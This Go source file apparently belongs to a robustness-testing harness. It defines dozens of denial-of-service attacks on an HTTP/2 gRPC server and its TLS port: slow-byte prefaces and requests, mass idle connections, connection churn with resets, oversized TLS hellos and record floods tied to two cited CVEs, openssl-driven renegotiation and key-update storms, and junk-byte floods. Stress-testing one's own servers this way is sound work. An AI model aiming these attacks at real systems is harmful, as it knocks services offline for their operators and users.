package main

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"net"
	"os/exec"
	"time"

	"golang.org/x/net/http2"
)

// Connections: slow, idle, too many, short-lived, or with something else than HTTP/2 on them; and TLS.

func init() {
	preface := append([]byte(http2.ClientPreface), 0, 0, 0, byte(http2.FrameSettings), 0, 0, 0, 0, 0)

	add(attack{name: "slow-prefaces", port: grpcPort,
		what: "1 000 connections that send the preface one byte a second.",
		run:  eachTCP(1000, grpcPort, func(c net.Conn) error { return slowly(c, preface, time.Second) })})
	add(attack{name: "slow-headers", port: grpcPort,
		what: "1 000 connections that send the headers of a call one byte a second.",
		run: func(t *target) {
			parallel(1000, func() error {
				tcp, err := dialTCP(t.GRPC)
				if err != nil {
					return err
				}
				defer tcp.Close()
				if _, err := tcp.Write(preface); err != nil {
					return count(err)
				}
				c := conn{}
				block := c.plainFields()
				frame := append([]byte{0, 0, byte(len(block)), byte(http2.FrameHeaders), byte(http2.FlagHeadersEndHeaders), 0, 0, 0, 1},
					block...)
				return count(slowly(tcp, frame, time.Second))
			})
		}})
	add(attack{name: "slow-requests", port: grpcPort,
		what: "200 connections with 20 calls each, all of whose requests arrive one byte a second.",
		run: each(200, settings{}, func(c *conn) error {
			for range 20 {
				c.begin(redirectPath)
			}
			for i := range exampleRequest {
				for s := range uint32(20) {
					must(c.WriteData(2*s+1, false, exampleRequest[i:i+1]))
				}
				if err := c.send(); err != nil {
					return err
				}
				time.Sleep(time.Second)
			}
			return c.hold()
		})})
	add(attack{name: "idle", port: grpcPort,
		what: "5 000 idle connections.",
		run:  each(5000, settings{}, (*conn).hold)})
	add(attack{name: "silent", port: grpcPort,
		what: "5 000 connections that never say anything.",
		run:  eachTCP(5000, grpcPort, untilClosed)})
	add(attack{name: "descriptors", port: grpcPort, files: 256, settings: []string{"MAX_CONNECTIONS=10000"},
		what: "1 000 idle connections to a server that may open 256 files.",
		run:  each(1000, settings{}, (*conn).hold)})
	add(attack{name: "descriptors-churn", port: grpcPort, files: 256, settings: []string{"MAX_CONNECTIONS=10000"},
		what: "1 000 connections at once that come and go, to a server that may open 256 files.",
		run: each(1000, settings{}, func(c *conn) error {
			c.call(redirectPath, exampleRequest)
			err := c.send()
			time.Sleep(100 * time.Millisecond)
			return err
		})})

	// churn makes connections one after another, from so many sides.
	churn := func(name, port, what string, use func(net.Conn) error) {
		add(attack{name: name, port: port, what: what, run: func(t *target) {
			for range 32 {
				go func() {
					for {
						c, err := dialTCP(t.address(port))
						if err != nil {
							time.Sleep(reconnectPause)
							continue
						}
						_ = use(c)
						_ = c.Close()
					}
				}()
			}
			select {}
		}})
	}
	churn("churn-tcp", grpcPort, "TCP connections that are closed as soon as they are open.",
		func(c net.Conn) error { return nil })
	churn("churn-reset", grpcPort, "TCP connections that are reset after half a preface.",
		func(c net.Conn) error {
			_, err := c.Write(preface[:10])
			_ = c.(*net.TCPConn).SetLinger(0)
			return err
		})
	churn("churn-half-closed", grpcPort, "Connections that are closed by half and then reset (CVE-2026-42577).",
		func(c net.Conn) error {
			_, _ = c.Write(preface)
			_ = c.(*net.TCPConn).CloseWrite()
			_, err := c.Read(make([]byte, 100))
			_ = c.(*net.TCPConn).SetLinger(0)
			return err
		})
	churn("churn-calls", grpcPort, "Connections that make one call and are then closed.",
		func(c net.Conn) error {
			k, err := speak(nil, c, settings{unread: true})
			if err != nil {
				return err
			}
			k.call(redirectPath, exampleRequest)
			if err := k.send(); err != nil {
				return err
			}
			_, err = c.Read(make([]byte, 1000))
			return err
		})
	client := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	churn("churn-tls", tlsPort, "TLS connections that are closed after the handshake.",
		func(c net.Conn) error { return tls.Client(c, client).Handshake() })
	hello := clientHello()
	churn("tls-hellos", tlsPort, "TLS handshakes that the client leaves after the server's first answer.",
		func(c net.Conn) error {
			if _, err := c.Write(hello); err != nil {
				return err
			}
			_, err := c.Read(make([]byte, 4096))
			return err
		})
	churn("tls-other-protocol", tlsPort, "TLS connections that ask for HTTP/1.1.",
		func(c net.Conn) error {
			return tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}}).Handshake()
		})
	add(attack{name: "tls-partial", port: tlsPort,
		what: "1 000 connections with half a TLS hello each.",
		run: eachTCP(1000, tlsPort, func(c net.Conn) error {
			if _, err := c.Write(hello[:len(hello)/2]); err != nil {
				return err
			}
			return untilClosed(c)
		})})
	add(attack{name: "tls-length", port: tlsPort,
		what: "200 connections with a TLS hello that says it is 16 MiB, and records of it without end (CVE-2026-45416).",
		run: eachTCP(200, tlsPort, func(c net.Conn) error {
			go func() { _ = untilClosed(c); _ = c.Close() }()
			record := append([]byte{22, 3, 1, 0x40, 0}, make([]byte, 0x4000)...)
			first := bytes.Clone(record)
			copy(first[5:], []byte{1, 0xff, 0xff, 0xff, 3, 3})
			for data := first; ; data = record {
				if _, err := c.Write(data); err != nil {
					return err
				}
				stats.bytes.Add(int64(len(data)))
				time.Sleep(time.Millisecond)
			}
		})})
	add(attack{name: "tls-records", port: tlsPort,
		what: "TLS connections that send the preface and then empty records without end.",
		run: eachTCP(4, tlsPort, func(c net.Conn) error {
			k := tls.Client(c, client)
			if _, err := k.Write(preface); err != nil {
				return err
			}
			go func() { _ = untilClosed(k); _ = c.Close() }()
			// Not encrypted by the connection's keys: the first of them ends it.
			record := bytes.Repeat([]byte{23, 3, 3, 0, 0}, 1000)
			for {
				if _, err := c.Write(record); err != nil {
					return err
				}
			}
		})})
	// Go's own TLS neither renegotiates as a client nor sends KeyUpdate when asked to; openssl s_client does.
	openssl := func(name, what, version, command string) {
		add(attack{name: name, port: tlsPort, what: what, tools: []string{"openssl", "bash"}, run: func(t *target) {
			parallel(8, func() error {
				stats.opened.Add(1)
				err := exec.Command("bash", "-c", `{ printf 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0'; sleep 0.2;
						while echo "$1"; do sleep 0.001; done; } |
						openssl s_client -connect "$2" -alpn h2 "$3" -ign_eof 2>/dev/null >/dev/null`,
					name, command, t.TLS, version).Run()
				return count(err)
			})
		}})
	}
	openssl("tls-renegotiation", "TLS 1.2 connections that ask for a new handshake 1 000 times a second.", "-tls1_2", "R")
	openssl("tls-key-updates", "TLS 1.3 connections that ask for new keys 1 000 times a second.", "-tls1_3", "K")

	junk := func(name, port, what string, data func() []byte) {
		add(attack{name: name, port: port, what: what, run: eachTCP(32, port, func(c net.Conn) error {
			go func() { _ = untilClosed(c); _ = c.Close() }()
			for {
				if _, err := c.Write(data()); err != nil {
					return err
				}
			}
		})})
	}
	http1 := bytes.Repeat([]byte("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"), 10)
	random := func() []byte {
		data := make([]byte, 4096)
		_, _ = rand.Read(data)
		return data
	}
	junk("http1", grpcPort, "HTTP/1.1 requests.", func() []byte { return http1 })
	junk("http1-upgrade", grpcPort, "HTTP/1.1 requests to upgrade to HTTP/2.", func() []byte {
		return []byte("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n" +
			"HTTP2-Settings: AAMAAABk\r\n\r\n")
	})
	junk("junk", grpcPort, "Random bytes.", random)
	junk("junk-tls", tlsPort, "Random bytes to the TLS port.", random)
	add(attack{name: "junk-frames", port: grpcPort,
		what: "The preface, and then random bytes.",
		run: each(32, settings{}, func(c *conn) error {
			for {
				if err := c.sendRaw(random()); err != nil {
					return err
				}
			}
		})})
}

// clientHello returns the first record that a TLS client sends.
func clientHello() []byte {
	ours, theirs := net.Pipe()
	go func() {
		_ = tls.Client(theirs, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}).Handshake()
	}()
	record := make([]byte, 4096)
	n, err := ours.Read(record)
	must(err)
	_ = ours.Close()
	return record[:n]
}
